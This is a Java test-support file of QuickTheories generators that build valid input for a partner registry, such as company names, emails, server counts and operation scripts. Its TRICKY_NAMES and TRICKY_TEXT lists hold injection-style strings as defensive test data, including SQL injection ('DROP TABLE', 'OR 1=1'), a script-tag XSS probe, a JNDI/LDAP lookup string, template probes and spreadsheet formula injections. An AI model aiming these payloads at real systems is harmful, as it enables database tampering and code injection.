package cloud.quazzar.partner.testkit.generators;

import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.lists;
import static org.quicktheories.generators.SourceDSL.longs;
import static org.quicktheories.generators.SourceDSL.strings;

import cloud.quazzar.partner.registry.NewClient;
import cloud.quazzar.partner.registry.NewPartner;
import cloud.quazzar.partner.registry.PartnerStatus;
import cloud.quazzar.partner.registry.Tier;
import java.util.List;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;

/**
 * Generators of valid registry input for QuickTheories property tests. Every value they produce is
 * accepted by the registry's validation (duplicates aside: names are random, so two generated
 * partners may share a name, which the registry rejects as a conflict).
 */
public final class PartnerGenerators {
  /** Names that stress storage, CSV and case folding: quotes, commas, formula starts, scripts. */
  public static final List<String> TRICKY_NAMES = List.of(
      "\"Quoted\" Cloud, Inc.",
      "=SUM(A1:A9)",
      "+Plus Hosting",
      "-Minus Ops",
      "@At Systems",
      "O'Brien & Sons; DROP TABLE partners;--",
      "Ωmega Κλάουντ",
      "株式会社クラウド",
      "Ōtaki Hosting GmbH",
      "Łódź Serwery",
      "İstanbul Bulut",
      "ΣΊΣΥΦΟΣ",
      "Straße Cloud AG",
      "مزود السحابة",
      "🚀 Rocket Servers",
      "a",
      "Multi\nLine\tName");

  /**
   * Valid text that looks like SQL injection, LIKE wildcards, escapes, template or script syntax,
   * or that uses scripts, emoji (with joiners), characters beyond U+FFFF and bidirectional marks.
   * Every entry is a valid value of every text field and already clean (docs/rules.md TEXT-1: no
   * control character, no invisible character that cleaning removes, in NFC, at most 100
   * characters, no surrounding or doubled white space), so the stored value is the value itself; and
   * no two share a name key, so each may be a company name in one program. A store must keep each
   * one verbatim and match it in look-ups only exactly. NUL is deliberately absent: it is invalid
   * input (see {@link InvalidInput#CONTROL_CHARACTERS}); for text that cleaning changes see {@link
   * TextGenerators#HOSTILE_TEXT}.
   */
  public static final List<String> TRICKY_TEXT = List.of(
      "'; DROP TABLE partners; --",
      "' OR '1'='1",
      "\" OR \"\"=\"",
      "Robert'); DROP TABLE clients;--",
      "1; DELETE FROM revenue_entries WHERE 1=1",
      "\\",
      "\\'",
      "C:\\temp\\new",
      "\\x00 \\0 \\n",
      "$$",
      "$1 $$ LANGUAGE plpgsql $$",
      "$tag$ body $tag$",
      "%",
      "_",
      "%_%",
      "a_c",
      "abc",
      "100% _sure_",
      "[a-z]* ^$ .+?",
      "/* comment */ --",
      "#hash",
      "`backtick`",
      "''",
      "\"\"",
      "NULL",
      "E'\\u0041'",
      "<script>alert(1)</script>",
      "${jndi:ldap://x.example/a}",
      "{{7*7}} #{7*7}",
      "=HYPERLINK(\"http://x.example\")",
      "+1 -1 @SUM",
      "\u200Frtl mark\u200E",
      "🚀🔥 rockets",
      "👨‍👩‍👧 family",
      "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 astral",
      "日本語の会社",
      "مرحبا بالعالم",
      "\u00E9 precomposed",
      "Straße İstanbul",
      "x".repeat(100));

  /** Valid email addresses with quotes, wildcards and other characters that SQL treats specially. */
  public static final List<String> TRICKY_EMAILS = List.of(
      "o'brien@x.example", "100%_sure@x.example", "a_c@x.example", "dollar$$@x.example",
      "back`tick@x.example", "plus+tag@x.example", "x-1@sub-domain.x.example");

  private PartnerGenerators() {}

  /**
   * Any tier.
   *
   * @return a generator of tiers
   */
  public static Gen<Tier> tiers() {
    return Generate.enumValues(Tier.class);
  }

  /**
   * Any status.
   *
   * @return a generator of statuses
   */
  public static Gen<PartnerStatus> statuses() {
    return Generate.enumValues(PartnerStatus.class);
  }

  /**
   * Valid company names: printable ASCII, Latin letters with diacritics, the {@link #TRICKY_NAMES},
   * with random case and extra spaces, and hostile Unicode text ({@link TextGenerators#freeText},
   * {@link TextGenerators#csvText}); never blank once cleaned, at most 200 characters.
   *
   * @return a generator of valid company names
   */
  public static Gen<String> companyNames() {
    Gen<String> ascii = strings().betweenCodePoints(0x20, 0x7E).ofLengthBetween(1, 40);
    Gen<String> latin = strings().betweenCodePoints(0xC0, 0x24F).ofLengthBetween(1, 30);
    Gen<String> tricky = Generate.pick(TRICKY_NAMES);
    Gen<String> spaced = tricky.zip(Generate.range(0, 3), Generate.range(0, 3),
        (n, before, after) -> " ".repeat(before) + n + " ".repeat(after));
    return Generate.frequency(
            org.quicktheories.api.Pair.of(4, ascii),
            org.quicktheories.api.Pair.of(2, latin),
            org.quicktheories.api.Pair.of(2, tricky),
            org.quicktheories.api.Pair.of(1, spaced),
            org.quicktheories.api.Pair.of(1, TextGenerators.freeText(100)),
            org.quicktheories.api.Pair.of(1, TextGenerators.csvText()))
        .assuming(s -> !s.isBlank());
  }

  /**
   * Valid email addresses such as {@code ops7@acme-3.example}.
   *
   * @return a generator of valid email addresses
   */
  public static Gen<String> emails() {
    Gen<String> local = strings().betweenCodePoints('a', 'z').ofLengthBetween(1, 12);
    Gen<String> domain = strings().betweenCodePoints('a', 'z').ofLengthBetween(1, 12);
    return local.zip(domain, integers().between(0, 999), (l, d, n) -> l + n + "@" + d + "-" + n + ".example");
  }

  /**
   * Server counts from 0 to 100,000, with extra weight on 0 and on the neighbourhood of round
   * thresholds (9/10/11, 49/50/51, 99/100/101, ...), where volume steps usually sit.
   *
   * @return a generator of server counts
   */
  public static Gen<Long> serverCounts() {
    Gen<Long> anyCount = longs().between(0, 100_000);
    Gen<Long> small = longs().between(0, 300);
    Gen<Long> nearThreshold = Generate.pick(List.of(10L, 25L, 50L, 100L, 250L, 500L, 1000L))
        .zip(longs().between(-1, 1), Long::sum);
    return Generate.frequency(
        org.quicktheories.api.Pair.of(1, Generate.constant(0L)),
        org.quicktheories.api.Pair.of(3, small),
        org.quicktheories.api.Pair.of(3, nearThreshold),
        org.quicktheories.api.Pair.of(2, anyCount));
  }

  /**
   * Valid requests to add a partner.
   *
   * @return a generator of valid requests to add a partner
   */
  public static Gen<NewPartner> newPartners() {
    return companyNames().zip(emails(), tiers(), NewPartner::new);
  }

  /**
   * Client names: short ASCII words, never blank.
   *
   * @return a generator of client names
   */
  public static Gen<String> clientNames() {
    return strings().betweenCodePoints(0x21, 0x7E).ofLengthBetween(1, 20);
  }

  /**
   * Valid requests to add a client, 0 to 500 servers.
   *
   * @return a generator of valid requests to add a client
   */
  public static Gen<NewClient> newClients() {
    return clientNames().zip(longs().between(0, 500), NewClient::new);
  }

  /**
   * Scripts of 1 to {@code maxOps} registry operations; see {@link RegistryScript}.
   *
   * @param maxOps the most operations a script has
   * @return a generator of scripts
   */
  public static Gen<List<RegistryOp>> registryScripts(int maxOps) {
    Gen<Integer> index = integers().between(0, 1_000);
    Gen<RegistryOp> add = newPartners().map(RegistryOp.AddPartner::new);
    Gen<RegistryOp> addClient = index.zip(newClients(), RegistryOp.AddClient::new);
    Gen<RegistryOp> setServers = index.zip(longs().between(0, 500), RegistryOp.SetServerCount::new);
    Gen<RegistryOp> rename = index.zip(clientNames(), RegistryOp.RenameClient::new);
    Gen<RegistryOp> remove = index.map(RegistryOp.RemoveClient::new);
    Gen<RegistryOp> tier = index.zip(tiers(), RegistryOp.ChangeTier::new);
    Gen<RegistryOp> contact = index.zip(companyNames(), emails(), RegistryOp.UpdateContact::new);
    Gen<RegistryOp> deactivate = index.map(RegistryOp.Deactivate::new);
    Gen<RegistryOp> reactivate = index.map(RegistryOp.Reactivate::new);
    Gen<RegistryOp> op = Generate.frequency(
        org.quicktheories.api.Pair.of(3, add),
        org.quicktheories.api.Pair.of(5, addClient),
        org.quicktheories.api.Pair.of(4, setServers),
        org.quicktheories.api.Pair.of(1, rename),
        org.quicktheories.api.Pair.of(2, remove),
        org.quicktheories.api.Pair.of(3, tier),
        org.quicktheories.api.Pair.of(1, contact),
        org.quicktheories.api.Pair.of(1, deactivate),
        org.quicktheories.api.Pair.of(1, reactivate));
    return add.zip(lists().of(op).ofSizeBetween(0, Math.max(0, maxOps - 1)), (first, rest) -> {
      var all = new java.util.ArrayList<RegistryOp>(rest.size() + 1);
      all.add(first);
      all.addAll(rest);
      return List.copyOf(all);
    });
  }
}
